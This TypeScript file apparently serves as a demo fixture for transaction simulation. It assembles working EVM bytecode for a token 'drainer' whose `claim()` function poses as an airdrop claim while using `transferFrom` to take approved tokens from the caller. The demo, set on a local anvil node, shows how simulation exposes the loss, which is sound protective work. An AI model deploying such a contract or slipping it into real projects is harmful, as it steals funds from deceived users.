import { id } from 'ethers/hash';
import { assemble } from './evmAssembler';

/**
 * A "drainer" for the review's demo: `claim()` looks like an airdrop claim but pulls `amount` of `token` from
 * the caller to itself with ERC-20 `transferFrom`, so it only works for someone who approved it before, and
 * simulating it shows the caller's loss. The token and the amount live in storage (slots 0 and 1), set with
 * `anvil_setStorageAt` (see `drainerSetup`), so one bytecode serves any token. A failed pull reverts with the
 * token's own revert data; any other selector reverts empty.
 */
export const DRAINER_ABI = ['function claim()'] as const;

export const DRAINER_SLOT = { token: 0n, amount: 1n } as const;

const selector = (signature: string) => BigInt(id(signature).slice(0, 10));

export const DRAINER_SOURCE = [
  `PUSH 0 CALLDATALOAD PUSH 0xe0 SHR PUSH ${selector('claim()')} EQ PUSH @claim JUMPI`,
  'PUSH 0 DUP1 REVERT',

  'claim: ; transferFrom(caller, this, amount) on the token, its arguments at 0x04, 0x24, 0x44',
  `PUSH ${selector('transferFrom(address,address,uint256)') << 224n} PUSH 0 MSTORE`,
  'CALLER PUSH 0x04 MSTORE ADDRESS PUSH 0x24 MSTORE',
  `PUSH ${DRAINER_SLOT.amount} SLOAD PUSH 0x44 MSTORE`,
  `PUSH 0x20 PUSH 0 PUSH 0x64 PUSH 0 PUSH 0 PUSH ${DRAINER_SLOT.token} SLOAD GAS CALL`,
  'ISZERO PUSH @bubble JUMPI',
  '; a token that answers false instead of reverting has not paid either',
  'PUSH 0 MLOAD ISZERO PUSH @bubble JUMPI',
  'STOP',
  'bubble:',
  'RETURNDATASIZE PUSH 0 DUP1 RETURNDATACOPY RETURNDATASIZE PUSH 0 REVERT',
];

export const DRAINER_RUNTIME = assemble(DRAINER_SOURCE);
